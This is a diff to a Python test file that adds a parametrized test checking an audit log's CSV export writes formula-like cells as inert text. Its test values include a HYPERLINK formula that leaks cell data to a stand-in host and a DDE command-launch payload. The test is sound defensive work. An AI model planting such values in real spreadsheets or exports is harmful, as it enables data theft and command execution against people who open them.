@@ -10,7 +10,15 @@ import orjson
 import pytest
 from sqlalchemy import Engine
 
-from broker.audit import AuditLog, ProblemKind, export_jsonl, load_jwks, verify_export
+from broker.audit import (
+    AuditLog,
+    EntryKind,
+    ProblemKind,
+    export_jsonl,
+    load_jwks,
+    verify_export,
+)
+from broker.audit.export import export_csv
 from consent.keys import KeyRing
 from tests.audit.conftest import run_cli, sample_entries
 
@@ -151,3 +159,31 @@ def test_csv_export_holds_every_entry_and_its_checkpoint(
     assert [int(r["seq"]) for r in rows] == list(range(1, 13))
     assert [r["seq"] for r in rows if r["checkpoint"]] == ["10", "12"]
     assert orjson.loads(rows[0]["fields"])["topic"] == "transport"
+
+
+@pytest.mark.parametrize(
+    "planted",
+    [
+        '=HYPERLINK("https://evil.example/?d="&A1,"click")',
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_csv_export_writes_formula_cells_as_text(
+    audit: AuditLog, engine: Engine, tmp_path: Path, planted: str
+) -> None:
+    audit.append_now(EntryKind.TOKEN_ISSUED, actor=planted, role="admin", sub=planted)
+    audit.append_now(EntryKind.TOKEN_ISSUED, actor="ptn-plain01", role="partner")
+    out = tmp_path / "audit.csv"
+    with out.open("w", newline="", encoding="utf-8") as f:
+        export_csv(engine, f)
+    with out.open(newline="", encoding="utf-8") as f:
+        rows = list(csv.DictReader(f))
+    assert rows[0]["actor"] == "'" + planted  # shown as text, never run
+    assert rows[1]["actor"] == "ptn-plain01"  # an ordinary cell is left as it is
+    assert not any(
+        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values()
+    )
